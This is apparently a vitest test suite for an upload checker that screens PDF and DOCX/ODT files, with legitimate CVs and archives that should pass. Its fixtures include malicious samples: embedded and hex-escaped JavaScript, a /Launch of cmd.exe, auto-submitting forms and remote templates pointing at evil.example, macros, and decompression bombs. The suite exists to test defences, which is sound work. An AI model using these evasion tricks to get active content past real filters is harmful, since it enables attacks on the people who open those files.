import { deflateSync } from 'node:zlib';
import PdfDocument from 'pdfkit';
import { describe, expect, test } from 'vitest';
import type { ApiError } from '../../../contract/errors.ts';
import { docx, zip } from '../../testing/sample-files.ts';
import { checkDocument } from './documents.ts';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const reasonFor = (bytes: Buffer, mime: string) =>
  checkDocument(bytes, mime).then(
    () => 'kept',
    (error: ApiError) => error.detail?.reason,
  );

/** A PDF of these objects, by number; the first is the catalogue. No table: readers rebuild it, and so does the check. */
function pdf(...objects: (string | Buffer)[]): Buffer {
  return Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.flatMap((object, index) => [
      Buffer.from(`${index + 1} 0 obj\n`),
      Buffer.from(object as string),
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from('trailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n'),
  ]);
}

/** Objects packed into a stream, as most programs do it today. */
function packed(
  objects: Record<number, string>,
  more = '/Filter/FlateDecode',
  pack: (plain: Buffer) => Buffer = (plain) => deflateSync(plain),
): Buffer {
  let body = '';
  const head = Object.entries(objects).map(([number, text]) => {
    const place = `${number} ${body.length}`;
    body += `${text} `;
    return place;
  });
  const first = `${head.join(' ')} `;
  const bytes = pack(Buffer.from(first + body));
  const dict = `<</Type/ObjStm/N ${head.length}/First ${first.length}/Length ${bytes.length}${more}>>`;
  return Buffer.concat([Buffer.from(`${dict}stream\n`), bytes, Buffer.from('\nendstream')]);
}

/** A CV as a program writes it: pages, a font, compressed contents, tapped links and an outline. */
function cv(): Promise<Buffer> {
  const document = new PdfDocument({
    pdfVersion: '1.7',
    info: { Title: 'Lebenslauf (JS, /Launch-Erfahrung)' },
  });
  const parts: Buffer[] = [];
  document.on('data', (part: Buffer) => parts.push(part));
  document.fontSize(20).text('Jana Krüger');
  document.text('jana@example.org', { link: 'mailto:jana@example.org' });
  document.text('Portfolio', { link: 'https://jana.example' });
  document.addPage().text('1 0 0 1 obj << /JS (');
  document.outline.addItem('Schule');
  document.end();
  return new Promise((resolve) => document.on('end', () => resolve(Buffer.concat(parts))));
}

const LINK = '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://jana.example)>>>>';
const SCRIPT = (name: string) => `<</S/${name}/JS(app.alert\\(1\\))>>`;
const CATALOG = (more = '') => `<</Type/Catalog/Pages 2 0 R${more}>>`;
const PAGES = '<</Type/Pages/Kids[]/Count 0>>';

describe('PDF', () => {
  test.each<[string, () => Buffer | Promise<Buffer>]>([
    ['a CV with links to mail and web', cv],
    ['links in annotations', () => pdf(CATALOG(), PAGES, LINK)],
    ['a start on page 1', () => pdf(CATALOG('/OpenAction[3 0 R/Fit]'), PAGES)],
    ['a start by an action', () => pdf(CATALOG('/OpenAction 3 0 R'), PAGES, '<</S/GoTo/D[2 0 R/Fit]>>')],
    [
      'objects in a stream',
      () => pdf(packed({ 1: CATALOG('/OpenAction 4 0 R'), 2: PAGES, 4: '[2 0 R/Fit]', 5: LINK })),
    ],
    ['a font that is called AA', () => pdf(CATALOG('/Font<</AA 3 0 R>>'), PAGES, '<</Type/Font/S/Odd>>')],
    ['an empty stream of pictures', () => pdf(CATALOG(), PAGES, '<</N 3/Length 0>>stream\n\nendstream')],
    [
      'words that only sound like it',
      () => pdf(CATALOG('/Title(Java Script /SubmitForms)'), PAGES, '<</LaunchPad 1>>'),
    ],
  ])('kept: %s', async (_what, make) => {
    expect(await reasonFor(await make(), 'application/pdf')).toBe('kept');
  });

  test.each<[string, () => Buffer]>([
    ['a script', () => pdf(CATALOG('/OpenAction 3 0 R'), PAGES, SCRIPT('JavaScript'))],
    ['an escaped name', () => pdf(CATALOG('/OpenAction 3 0 R'), PAGES, SCRIPT('Java#53cript'))],
    ['a name escaped from end to end', () => pdf(CATALOG(), PAGES, SCRIPT('#4a#61#76#61#53#63#72#69#70#74'))],
    [
      'a form that sends itself',
      () => pdf(CATALOG('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'), PAGES),
    ],
    ['a program, escaped', () => pdf(CATALOG(), PAGES, '<</S/L#61unch/F(cmd.exe)>>')],
    ['a file inside', () => pdf(CATALOG('/Names<</EmbeddedFiles 3 0 R>>'), PAGES, '<</Type/EmbeddedFile>>')],
    [
      'a web page that opens by itself',
      () => pdf(CATALOG('/OpenAction 3 0 R'), PAGES, '<</S/URI/URI(https://evil.example)>>'),
    ],
    [
      'the same behind a harmless one',
      () => pdf(CATALOG('/OpenAction<</S/GoTo/Next[3 0 R]>>'), PAGES, '<</S/URI/URI(x)>>'),
    ],
    ['an escaped OpenAction', () => pdf(CATALOG('/Open#41ction<</S/URI/URI(x)>>'), PAGES)],
    [
      'a page that opens one',
      () => pdf(CATALOG(), PAGES, '<</Type/Page/AA<</O 4 0 R>>>>', '<</S/URI/URI(x)>>'),
    ],
    ['actions in a ring', () => pdf(CATALOG('/OpenAction 3 0 R'), PAGES, '<</S/GoTo/Next 3 0 R>>')],
    [
      'a later version of the same object',
      () =>
        Buffer.concat([
          pdf(CATALOG('/OpenAction 3 0 R'), PAGES, '[]'),
          Buffer.from('3 0 obj<</S/URI/URI(x)>>endobj\n%%EOF\n'),
        ]),
    ],
    [
      'a script in a stream of objects',
      () => pdf(packed({ 1: CATALOG('/OpenAction 4 0 R'), 4: SCRIPT('JavaScript') })),
    ],
    ['an escaped one in it', () => pdf(packed({ 1: CATALOG(), 4: SCRIPT('Java#53cript') }))],
    [
      'an automatic page in it',
      () => pdf(packed({ 1: CATALOG('/OpenAction 4 0 R'), 4: '<</S/URI/URI(x)>>' })),
    ],
    [
      'a stream that hides what it is',
      () =>
        pdf(
          CATALOG(),
          Buffer.from(
            packed({ 4: SCRIPT('JavaScript') })
              .toString('latin1')
              .replace('/Type/ObjStm', ''),
            'latin1',
          ),
        ),
    ],
    ['a form with its own scripts', () => pdf(CATALOG('/AcroForm<</XFA 3 0 R>>'), PAGES)],
  ])('refused: %s', async (_what, make) => {
    expect(await reasonFor(make(), 'application/pdf')).toBe('active_content');
  });

  test.each<[string, () => Buffer]>([
    [
      'objects packed in a second way',
      () =>
        pdf(
          packed({ 1: CATALOG() }, '/Filter[/ASCIIHexDecode/FlateDecode]', (plain) =>
            Buffer.from(deflateSync(plain).toString('hex')),
          ),
        ),
    ],
    [
      'objects in another one',
      () =>
        pdf(
          packed({ 1: CATALOG() }, '/Filter/ASCIIHexDecode', (plain) => Buffer.from(plain.toString('hex'))),
        ),
    ],
    [
      'an encrypted file',
      () =>
        pdf(
          packed({ 1: CATALOG() }, '/Filter/FlateDecode', (plain) =>
            Buffer.from(deflateSync(plain).map((byte) => byte ^ 0x5a)),
          ),
        ),
    ],
  ])('what cannot be looked into: %s', async (_what, make) => {
    expect(await reasonFor(make(), 'application/pdf')).toBe('protected');
  });

  test('objects that unpack to gigabytes are refused before they do', async () => {
    const bomb = packed({ 1: ' '.repeat(70 * 1024 * 1024) });
    expect(bomb.length).toBeLessThan(200_000);
    expect(await reasonFor(pdf(CATALOG(), PAGES, bomb), 'application/pdf')).toBe('unpacks_too_large');
  });
});

describe('DOCX and ODT', () => {
  const table = async () => docx({ 'word/embeddings/oleObject1.txt': 'x' });
  test('kept: pictures, links, long texts and a document in a document', async () => {
    const words = Array.from({ length: 40_000 }, (_, at) => `<w:t>Wort ${at * 7919}</w:t>`).join('');
    const links = '<Relationship Type="…/hyperlink" Target="https://jana.example" TargetMode="External"/>';
    const bytes = await docx({ 'word/long.xml': words, 'word/_rels/document.xml.rels': links });
    expect(await reasonFor(bytes, DOCX)).toBe('kept');
    expect(await reasonFor(await packedIn(await table()), DOCX)).toBe('kept');
  });

  /** A document with another archive in it. */
  async function packedIn(inner: Buffer): Promise<Buffer> {
    return zip({
      '[Content_Types].xml': '<Types/>',
      'word/embeddings/table.xlsx': inner as unknown as string,
    });
  }

  test('a small file that unpacks to far more is refused, also in pieces and one archive deeper', async () => {
    const large = 'a'.repeat(40 * 1024 * 1024);
    const bomb = await docx({ 'word/media/large.bin': large });
    expect(bomb.length).toBeLessThan(100_000);
    expect(await reasonFor(bomb, DOCX)).toBe('unpacks_too_large');
    const pieces = Object.fromEntries(
      Array.from({ length: 6 }, (_, at) => [`word/${at}.bin`, large.slice(0, 3 * 1024 * 1024)]),
    );
    expect(await reasonFor(await docx(pieces), DOCX)).toBe('unpacks_too_large');
    expect(await reasonFor(await packedIn(bomb), DOCX)).toBe('unpacks_too_large');
    let deep = await docx();
    for (let level = 0; level < 4; level++) deep = await packedIn(deep);
    expect(await reasonFor(deep, DOCX)).toBe('unpacks_too_large');
  });

  test('a size the archive states of itself counts for nothing', async () => {
    const bomb = await docx({ 'word/media/large.bin': 'a'.repeat(40 * 1024 * 1024) });
    const real = Buffer.alloc(4);
    real.writeUInt32LE(40 * 1024 * 1024);
    for (let at = bomb.indexOf(real); at >= 0; at = bomb.indexOf(real, at)) bomb.writeUInt32LE(7, at);
    expect(await reasonFor(bomb, DOCX)).toBe('unpacks_too_large');
  });

  test.each<[string, Record<string, string>]>([
    ['a macro', { 'word/vbaProject.bin': 'x' }],
    [
      'a type that has macros',
      {
        '[Content_Types].xml':
          '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      },
    ],
    [
      'a template from elsewhere',
      {
        'word/_rels/settings.xml.rels':
          '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
      },
    ],
    [
      'a script on an event',
      { 'content.xml': '<office:event-listeners><script:event-listener script:language="ooo:script"/>' },
    ],
    ['a program', { 'word/media/setup.exe': 'MZ' }],
  ])('refused: %s', async (_what, entries) => {
    expect(await reasonFor(await docx(entries), DOCX)).toBe('active_content');
    expect(await reasonFor(await packedIn(await docx(entries)), DOCX)).toBe('active_content');
  });
});

test('a part full of marks of a template, none of whose tags ends, is checked in the time of any other', async () => {
  const many = 'attachedTemplate"'.repeat(60_000);
  expect(await reasonFor(await docx({ 'word/_rels/document.xml.rels': many }), DOCX)).toBe('kept');
  const last = `${many}><x TargetMode="External" Type="http://x/attachedTemplate"/>`;
  expect(await reasonFor(await docx({ 'word/_rels/document.xml.rels': last }), DOCX)).toBe('active_content');
});
